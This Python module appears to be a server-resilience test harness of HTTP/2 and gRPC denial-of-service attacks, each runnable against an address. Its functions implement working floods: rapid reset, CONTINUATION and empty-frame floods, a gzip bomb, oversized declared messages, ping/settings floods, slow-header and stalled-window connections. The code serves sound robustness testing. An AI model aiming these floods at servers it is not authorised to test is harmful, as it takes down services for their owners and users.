"""What clients that mean no good do, each as a function; run as a program, for its own process.

    python -m harness.attacks NAME ADDRESS SECONDS

makes an attack for that long, again and again where it is short, and prints as JSON how often it
did, what the server answered and which part of a processor it took. `idle` with that part instead
of an address only takes the processor.
"""

import gzip
import json
import sys
import time
from collections import Counter

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from .frames import PREFACE, SCAN, Wire, dial, message, set_request

MEBIBYTE = 1 << 20
# A header block that never ends would end here.
_FLOOD_BYTES = 4 * MEBIBYTE


def rapid_reset(address, _):
    """Calls are begun and taken back at once."""
    with Wire(address) as wire:
        for _ in range(100):
            flood = bytearray()
            for _ in range(100):
                stream = wire.next_stream()
                flood += wire.headers(stream) + RstStreamFrame(stream, error_code=8).serialize()
            if not wire.send(flood):
                break
        wire.read(1, lambda: wire.closed)
        return wire.outcome()


def server_resets(address, _):
    """The server is made to reset: each call gets a window update of nothing."""
    with Wire(address) as wire:
        for _ in range(100):
            flood = bytearray()
            for _ in range(100):
                stream = wire.next_stream()
                nothing = WindowUpdateFrame(stream, window_increment=1).serialize()[:-4] + bytes(4)
                flood += wire.headers(stream) + nothing
            if not wire.send(flood):
                break
        wire.read(1, lambda: wire.closed)
        return wire.outcome()


def full_continuations(address, _):
    """Headers that go on and on."""
    return _continuations(address, b"\x10\x01x\x7f\x81\x7c", 16_000)


def empty_continuations(address, _):
    """Headers that go on and on and say nothing."""
    return _continuations(address, b"", 0)


def _continuations(address, literal, size):
    with Wire(address) as wire:
        wire.greeted()
        stream = wire.next_stream()
        wire.send(wire.headers(stream, flags=()))
        # A literal header of one letter with a value of 16,000: the name, its length, the value.
        body = literal + b"y" * size
        more = ContinuationFrame(stream, body).serialize()
        count = max(1, 64_000 // len(more))
        for _ in range(_FLOOD_BYTES // (count * len(more))):
            if not wire.send(more * count):
                break
        wire.read(1, lambda: wire.closed)
        return wire.outcome()


def large_header(address, _):
    """A header of 60 KB; the same connection must still do a call that is as it should be."""
    with Wire(address) as wire:
        wire.greeted()
        stream = wire.next_stream()
        block = wire.block(extra=[("x-large", "y" * 60_000)])
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        frames = HeadersFrame(stream, parts[0]).serialize()
        for part in parts[1:-1]:
            frames += ContinuationFrame(stream, part).serialize()
        frames += ContinuationFrame(stream, parts[-1], flags=("END_HEADERS",)).serialize()
        wire.send(frames)
        wire.answered(stream)
        return wire.outcome() + _polite_call(wire)


def _polite_call(wire):
    """A call as it should be, on a connection that was used otherwise."""
    stream = wire.next_stream()
    before = wire.seen["grpc-status 0"]
    wire.send(wire.headers(stream))
    wire.pour(stream, message(set_request(b"polite", 10)), last=True)
    wire.read(5, lambda: wire.seen["grpc-status 0"] > before or wire.is_over)
    return Counter({"lives on": wire.seen["grpc-status 0"] - before})


def open_streams(address, _):
    """20,000 calls are begun and never ended."""
    with Wire(address) as wire:
        for _ in range(200):
            flood = b"".join(wire.headers(wire.next_stream()) for _ in range(100))
            if not wire.send(flood):
                break
        wire.read(1, lambda: wire.closed)
        return wire.outcome()


def unfinished_messages(address, end):
    """64 calls each send what is taken of 3.7 of the 4 MiB they announced, and stop there."""
    body = message(bytes(3_879_731), length=4 * MEBIBYTE)
    with Wire(address) as wire:
        wire.greeted()
        sent = 0
        for _ in range(64):
            stream = wire.next_stream()
            wire.send(wire.headers(stream))
            sent += wire.pour(stream, body, seconds=0.01)
            if wire.is_over:
                break
        wire.read(end - time.monotonic() - 0.2)
        lives = Counter() if wire.is_over else _polite_call(wire)
        return wire.outcome() + lives + Counter({"sent MiB": sent >> 20})


def gzip_bomb(address, _):
    """65 KB that would be 64 MiB."""
    bomb = message(gzip.compress(bytes(64 * MEBIBYTE)), flag=1)
    with Wire(address) as wire:
        wire.greeted()
        for _ in range(50):
            stream = wire.next_stream()
            wire.send(wire.headers(stream, extra=[("grpc-encoding", "gzip")]))
            wire.pour(stream, bomb, last=True)
            wire.answered(stream)
        return wire.outcome() + _polite_call(wire)


def declared_message(address, _):
    """A message of which the head says that it has 2 GiB."""
    with Wire(address) as wire:
        wire.greeted()
        for _ in range(50):
            stream = wire.next_stream()
            wire.send(wire.headers(stream))
            wire.pour(stream, message(b"x" * 100, length=1 << 31))
            wire.answered(stream)
        return wire.outcome() + _polite_call(wire)


def empty_data(address, _):
    """300,000 frames of data without any."""
    with Wire(address) as wire:
        stream = wire.next_stream()
        wire.send(wire.headers(stream))
        empty = DataFrame(stream, b"").serialize() * 1000
        for _ in range(300):
            if not wire.send(empty):
                break
        wire.read(1, lambda: wire.closed)
        return wire.outcome()


def pings_and_settings(address, _):
    """100,000 pings, then 100,000 settings."""
    with Wire(address) as wire:
        for frame, answer in (
            (PingFrame(0, opaque_data=b"12345678"), "pong"),
            (SettingsFrame(0, settings={4: 65_535}), "settings acknowledged"),
        ):
            for _ in range(100):
                if not wire.send(frame.serialize() * 1000):
                    break
            wire.read(5, lambda answer=answer: wire.seen[answer] >= 100_000 or wire.is_over)
        return wire.outcome() + (Counter() if wire.is_over else _polite_call(wire))


def silence(address, end):
    """Connections on which nothing comes, or only the beginning of a preface."""
    return _until_closed(address, end, [b"", PREFACE[:12], b"P"])


def slow_head(address, end):
    """A request head of HTTP/1 that comes a letter at a time."""
    return _until_closed(address, end, [b"GET /livez HTTP/1.1\r\nhost: a\r\nx: "], drip=b"y")


def _until_closed(address, end, openings, drip=b""):
    begun, seen = time.monotonic(), Counter()
    sockets = [dial(address) for _ in range(10) for _ in openings]
    for number, socket in enumerate(sockets):
        socket.sendall(openings[number % len(openings)])
        socket.setblocking(False)
    while sockets and time.monotonic() < end:
        time.sleep(0.05)
        for socket in list(sockets):
            try:
                if drip:
                    socket.send(drip)
                is_open = bool(socket.recv(4096))
            except BlockingIOError:
                is_open = True
            except OSError:
                is_open = False
            if not is_open:
                sockets.remove(socket)
                socket.close()
                seen["closed"] += 1
    seen["still open"] = len(sockets)
    seen["milliseconds"] = round((time.monotonic() - begun) * 1000)
    return seen


def half_headers(address, end):
    """Headers of a call that do not go on; whoever pings gets no answer."""
    begun = time.monotonic()
    with Wire(address, answers_pings=False) as wire:
        wire.greeted()
        wire.send(wire.headers(wire.next_stream(), flags=()))
        wire.read(end - time.monotonic(), lambda: wire.closed)
        took = round((time.monotonic() - begun) * 1000)
        return wire.outcome() + Counter({"milliseconds": took})


def unfinished_body(address, end):
    """A call of which the body does not come, over a connection that is well."""
    begun = time.monotonic()
    with Wire(address) as wire:
        stream = wire.next_stream()
        wire.send(wire.headers(stream))
        wire.pour(stream, message(set_request(b"k", 1000))[:100])
        wire.answered(stream, end - time.monotonic())
        took = round((time.monotonic() - begun) * 1000)
        return wire.outcome() + Counter({"milliseconds": took}) + _polite_call(wire)


def closed_windows(address, end):
    """64 scans of everything, to a caller whose windows are closed."""
    with Wire(address, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}) as wire:
        _scan(wire, 64)
        wire.read(end - time.monotonic())
        return wire.outcome()


def unread_answers(address, end):
    """64 scans of everything, to a caller that opens its windows and does not read its socket."""
    with Wire(address, settings={SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1}) as wire:
        wire.open_windows()
        _scan(wire, 64)
        time.sleep(max(0, end - time.monotonic() - 0.5))
        wire.read(0.5)
        return wire.outcome()


def _scan(wire, count):
    for _ in range(count):
        stream = wire.next_stream()
        body = message(b"\x0a\x05large")
        frame = wire.headers(stream, SCAN)
        wire.send(frame + DataFrame(stream, body, flags=("END_STREAM",)).serialize())


def idle(share, end):
    """Takes that share of a processor and sends nothing to anybody."""
    while (now := time.monotonic()) < end:
        while time.monotonic() < now + 0.02 * share:
            pass
        time.sleep(max(0.0, 0.02 * (1 - share)))
    return Counter()


# More often nobody comes: then the machine would be measured, which has other things to do too.
_ROUND_SECONDS_MIN = 0.005
# These wait for something and are made once.
_PATIENT = {"unfinished_messages", "silence", "slow_head", "half_headers", "unfinished_body"}
_PATIENT |= {"closed_windows", "unread_answers", "idle"}


def main(name, target, seconds):
    """Makes one of them."""
    attack = globals()[name]
    begun, rounds, seen = time.monotonic(), 0, Counter()
    end, before = begun + seconds, time.process_time()
    while time.monotonic() < end and not (rounds and name in _PATIENT):
        next_round = time.monotonic() + _ROUND_SECONDS_MIN
        seen += attack(float(target) if name == "idle" else target, end)
        rounds += 1
        time.sleep(max(0.0, next_round - time.monotonic()))
    share = (time.process_time() - before) / (time.monotonic() - begun)
    print(json.dumps({"rounds": rounds, "seen": seen, "share": min(share, 1.0)}))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
